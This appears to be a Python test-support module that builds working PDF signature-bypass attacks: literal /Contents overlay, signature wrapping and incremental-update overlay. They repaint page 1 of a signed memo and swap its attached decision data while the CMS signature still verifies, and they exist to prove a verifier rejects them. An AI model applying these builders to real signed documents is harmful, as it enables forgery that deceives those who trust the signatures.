"""Attacks on a signed memo, built with plain bytes operations on a real signed file (issue 13).

Each builder takes the bytes of a signed memo and returns the bytes of an attacked one whose signed byte ranges
are untouched, so the CMS signature itself still checks out:

- :func:`literal_overlay`: the ``/Contents`` hex string in the unsigned gap rewritten as a literal ``( … )``
  string holding the same CMS, zero-padded so that ``len1 + len2 + 2 * len(contents) + 2`` equals the new file
  length, and an incremental update appended that draws new text over page 1 (and, with ``data``, replaces the
  attached decision JSON and the SHA-256 in ``/Info``). pyHanko 0.38 calls that "covers the entire file".
- :func:`wrapped`: signature wrapping. The gap holds ``/Contents`` (literal or hex), a new ``/ByteRange`` that
  points the second range at a copy of the signed tail moved to the end of the file, and in between the
  attacker's objects and cross-reference table.
- :func:`plain_update`: an ordinary incremental update after signing.

The attacks are public (mkl on LibrePDF/OpenPDF pull request #159, 2019; Mladenov et al., "1 Trillion Dollar
Refund", 2019); these builders exist only to prove ``afweging verify`` refuses them.
"""

from __future__ import annotations

import io
import re
from dataclasses import dataclass

OVERLAY_TEXT = "Advies: Microsoft Teams"


@dataclass(frozen=True)
class Container:
    a: int  # end of the first signed range = start of the gap
    b: int  # start of the second signed range = end of the gap
    c: int  # length of the second signed range
    cms: bytes  # the hex-decoded /Contents, zero padding included

    @property
    def gap(self) -> int:
        return self.b - self.a


def container(raw: bytes) -> Container:
    m = re.search(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", raw)
    assert m, "no /ByteRange"
    a, b, c = (int(x) for x in m.groups())
    hexed = raw[a:b]
    assert hexed[:1] == b"<" and hexed[-1:] == b">"
    assert b + c == len(raw)
    return Container(a, b, c, bytes.fromhex(hexed[1:-1].decode("ascii")))


def literal(data: bytes) -> bytes:
    """A PDF literal string holding ``data`` exactly (a bare CR would be read as LF, so it is escaped too)."""
    esc = data.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)").replace(b"\r", b"\\r")
    return b"(" + esc + b")"


def _cms_padded(cms: bytes, n: int) -> bytes:
    body = cms.rstrip(b"\0")
    assert len(body) <= n
    return body + b"\0" * (n - len(body))


def _with_literal_gap(raw: bytes, k: Container, n: int) -> bytes:
    lit = literal(_cms_padded(k.cms, n))
    assert len(lit) <= k.gap, (len(lit), k.gap)
    return raw[: k.a] + lit + b" " * (k.gap - len(lit)) + raw[k.b :]


def _overlay_update(base: bytes, data: bytes | None = None, digest: str | None = None) -> bytes:
    """An incremental update (the appended bytes only) that paints page 1 over and optionally swaps the data."""
    from pyhanko.pdf_utils import embed, generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    w = IncrementalPdfFileWriter(io.BytesIO(base), strict=False)
    # An attacker writes only what the attack needs: not the rewritten XMP packet and information dictionary
    # pyHanko would add to any update of a memo with XMP metadata (the PDF/A memo has it), which would not fit.
    w._update_meta = lambda: None
    page_ref, _ = w.find_page_for_modification(0)
    page = page_ref.get_object()
    draw = (
        "q 1 1 1 rg 30 480 540 330 re f Q "
        f"BT /FAtk 26 Tf 0 0 0 rg 50 700 Td ({OVERLAY_TEXT}) Tj ET "
        "BT /FAtk 14 Tf 50 670 Td (Microsoft Teams ranks first.) Tj ET"
    ).encode("ascii")
    stream = w.add_object(generic.StreamObject(stream_data=draw))
    old = page["/Contents"]
    old_list = list(old) if isinstance(old, generic.ArrayObject) else [page.raw_get("/Contents")]
    page["/Contents"] = generic.ArrayObject([*old_list, stream])
    font = generic.DictionaryObject({
        generic.pdf_name("/Type"): generic.pdf_name("/Font"),
        generic.pdf_name("/Subtype"): generic.pdf_name("/Type1"),
        generic.pdf_name("/BaseFont"): generic.pdf_name("/Helvetica"),
    })  # fmt: skip
    res_raw = page.raw_get("/Resources")
    res = res_raw.get_object()
    fonts_raw = res.raw_get("/Font") if "/Font" in res else None
    if isinstance(fonts_raw, generic.IndirectObject):
        fonts = fonts_raw.get_object()
        fonts[generic.pdf_name("/FAtk")] = font
        w.update_container(fonts)
    else:
        fonts = fonts_raw if fonts_raw is not None else generic.DictionaryObject()
        fonts[generic.pdf_name("/FAtk")] = font
        res[generic.pdf_name("/Font")] = fonts
        if isinstance(res_raw, generic.IndirectObject):
            w.update_container(res)
    w.update_container(page)
    if data is not None:
        names = w.root["/Names"]["/EmbeddedFiles"]["/Names"]
        spec_ref = names[1]
        spec = spec_ref.get_object()
        new_file = embed.EmbeddedFileObject.from_file_data(w, data=data, mime_type="application/json")
        ef = spec["/EF"]
        ref = w.add_object(new_file)
        ef[generic.pdf_name("/F")] = ref
        if "/UF" in ef:
            ef[generic.pdf_name("/UF")] = ref
        w.update_container(spec)
    if digest is not None:
        info = w.trailer["/Info"]
        info[generic.pdf_name("/Keywords")] = generic.TextStringObject(f"afweging-decision-sha256:{digest}")
        w.update_container(info)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()[len(base) :]


def literal_overlay(raw: bytes, data: bytes | None = None, digest: str | None = None) -> bytes:
    """Attack (1) (and with ``data``/``digest``, attack (2)): literal ``/Contents`` + an update of the freed size."""
    k = container(raw)
    n0 = len(k.cms)
    base = _with_literal_gap(raw, k, n0)
    update = _overlay_update(base, data, digest)
    if len(update) % 2:
        update += b"\n"
    # len1 + len2 + 2 * n + 2 == len(base) + len(update)  ⇔  n == n0 + len(update) / 2
    n = n0 + len(update) // 2
    out = _with_literal_gap(raw, k, n) + update
    assert k.a + k.c + 2 * n + 2 == len(out)
    return out


def plain_update(raw: bytes) -> bytes:
    """Attack (4): an ordinary incremental update that paints over page 1."""
    return raw + _overlay_update(raw)


def _xref_entries(raw: bytes, at: int) -> dict[int, int]:
    """The in-use entries of the classic cross-reference table at offset ``at``: object number → offset."""
    text = raw[at : raw.index(b"trailer", at)].decode("ascii")
    lines = text.split("\n")[1:]
    out, i = {}, 0
    while i < len(lines):
        head = lines[i].split()
        i += 1
        if len(head) != 2:
            continue
        first, count = int(head[0]), int(head[1])
        for j in range(count):
            off, _gen, kind = lines[i + j].split()
            if kind == "n":
                out[first + j] = int(off)
        i += count
    return out


def _xref_table(entries: dict[int, int]) -> bytes:
    out = [b"xref\n0 1\n0000000000 65535 f \n"]
    for num in sorted(entries):
        out.append(b"%d 1\n%010d 00000 n \n" % (num, entries[num]))
    return b"".join(out)


def wrapped(raw: bytes, hexed: bool = False) -> bytes:
    """Attack (3): signature wrapping — the signed tail moved to the end, ``/ByteRange`` pointed at it.

    Between ``/Contents`` and the moved tail sit the rest of a new signature dictionary, a new page 1 (the old
    content plus an overlay) and a cross-reference table at the offset the moved tail's ``startxref`` names.
    With ``hexed`` the contents stay a hex string (the arithmetic cannot then come out: it must be refused too).
    """
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.reader import PdfFileReader

    k = container(raw)
    tail = raw[k.b :]
    startxref = int(re.findall(rb"startxref\s+(\d+)\s+%%EOF", raw)[-1])
    m = re.search(rb"trailer\s*(<<.*>>)\s*startxref", raw[startxref:], re.S)
    assert m
    trailer_text = m.group(1)
    old_entries = _xref_entries(raw, startxref)
    reader = PdfFileReader(io.BytesIO(raw), strict=False)
    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    res = page["/Resources"]
    # The sig dict's own keys after /Contents, up to its end, with the /ByteRange replaced below.
    sig_rest = tail[: tail.index(b"endobj")]
    sig_rest = re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"", sig_rest)

    def body(n: int, b2: int) -> tuple[bytes, dict[int, int]]:
        """Everything from the gap's start up to the xref offset (``startxref``), and the new xref entries."""
        parts = []
        pos = k.a
        contents = _cms_padded(k.cms, n)
        head = (b"<" + contents.hex().upper().encode() + b">") if hexed else literal(contents)
        head += b"\n/ByteRange [0 %d %d %d]" % (k.a, b2, k.c) + sig_rest + b"endobj\n"
        parts.append(head)
        pos += len(head)
        entries = {num: (off + b2 - k.b if off >= k.b else off) for num, off in old_entries.items()}
        next_num = int(reader.trailer["/Size"])
        draw = (f"q 1 1 1 rg 30 480 540 330 re f Q BT /FAtk 26 Tf 0 0 0 rg 50 700 Td ({OVERLAY_TEXT}) Tj ET"
                ).encode()  # fmt: skip
        content_num, font_num = next_num, next_num + 1
        objs = {
            content_num: b"<< /Length %d >>\nstream\n" % len(draw) + draw + b"\nendstream",
            font_num: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        }
        new_page = generic.DictionaryObject(page)
        old = page.raw_get("/Contents")
        old_list = list(old) if isinstance(old, generic.ArrayObject) else [old]
        new_page[generic.pdf_name("/Contents")] = generic.ArrayObject(
            [*old_list, generic.IndirectObject(content_num, 0, reader)]
        )
        new_res = generic.DictionaryObject(res)
        fonts = generic.DictionaryObject(res["/Font"] if "/Font" in res else {})  # noqa: SIM401 - [] resolves, .get does not
        fonts[generic.pdf_name("/FAtk")] = generic.IndirectObject(font_num, 0, reader)
        new_res[generic.pdf_name("/Font")] = fonts
        new_page[generic.pdf_name("/Resources")] = new_res
        buf = io.BytesIO()
        new_page.write_to_stream(buf)
        objs[page_ref.idnum] = buf.getvalue()
        for num, text in objs.items():
            chunk = b"%d 0 obj\n" % num + text + b"\nendobj\n"
            entries[num] = pos
            parts.append(chunk)
            pos += len(chunk)
        return b"".join(parts), entries

    # Sizes settle in two rounds: first with a guess, then with the real lengths.
    size = int(reader.trailer["/Size"]) + 2
    trailer_new = re.sub(rb"/Size\s+\d+", b"/Size %d" % size, trailer_text)
    # A hex /Contents holds the CMS without its zero padding: room for the attacker's objects when the signed
    # tail leaves little of it before the old xref offset (as the PDF/A memo's does).
    n = len(k.cms.rstrip(b"\0")) if hexed else len(k.cms)
    b2 = k.a + 2 * n + 2
    for _ in range(4):
        head, entries = body(n, b2)
        assert k.a + len(head) <= startxref, "the attacker's objects do not fit before the old xref offset"
        xref = _xref_table(entries) + b"trailer\n" + trailer_new + b"\nstartxref\n%d\n%%%%EOF\n" % startxref
        middle = head + b"\n" * (startxref - k.a - len(head)) + xref
        if hexed:
            # A hex /Contents fills 2n + 2 bytes by itself, so the moved tail cannot sit where the arithmetic
            # wants it: it sits right after the attacker's bytes, and /ByteRange says so.
            if b2 == k.a + len(middle):
                return raw[: k.a] + middle + tail
            b2 = k.a + len(middle)
            continue
        need = len(middle)  # bytes between the gap's start and the moved tail: must equal 2n + 2
        if need <= 2 * n + 2:
            filler = b"%" + b" " * (2 * n + 2 - need - 2) + b"\n" if 2 * n + 2 - need >= 2 else b"\n"
            out = raw[: k.a] + middle + filler[: 2 * n + 2 - need] + tail
            assert len(out) == k.a + k.c + 2 * n + 2 and out[b2:] == tail
            return out
        n = (need - 2 + 1) // 2 + 1
        b2 = k.a + 2 * n + 2
    raise AssertionError("no size fits")
